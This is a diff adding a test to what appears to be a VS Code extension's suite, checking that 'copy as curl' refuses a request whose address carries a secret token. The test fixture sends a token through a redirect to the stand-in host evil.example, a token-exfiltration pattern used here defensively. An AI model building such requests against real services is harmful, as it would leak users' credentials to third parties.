@@ -174,4 +174,24 @@ describe('tokens for tasks and other extensions', () => {
     }
     await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
   });
+
+  it('L16: no request with a token in its address is copied: the server may lead it anywhere', async () => {
+    const { apiUrl } = readSuiteEnvironment();
+    for (const reference of ['{{$processEnv VALET_KEY_OUTLET}}', '{{$auth.token("outlet")}}']) {
+      const document = await vscode.workspace.openTextDocument({
+        language: 'http',
+        content: `GET ${apiUrl}/redirect?to=https://evil.example/%3Ft=${reference}\nAuthorization: Bearer ${reference}\n`,
+      });
+      await vscode.window.showTextDocument(document);
+      await vscode.env.clipboard.writeText('nothing was copied');
+      const before = messages.errors.length;
+      await vscode.commands.executeCommand(commands.copyAsCurl);
+      assert.equal(await vscode.env.clipboard.readText(), 'nothing was copied');
+      const [error = '', ...more] = messages.errors.slice(before);
+      assert.match(error, /The token of “outlet” stands in the address of this request.*was not copied/);
+      assert.match(error, /Write “Authorization: valetkey outlet” instead/);
+      assert.deepEqual(more, []);
+      await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
+    }
+  });
 });
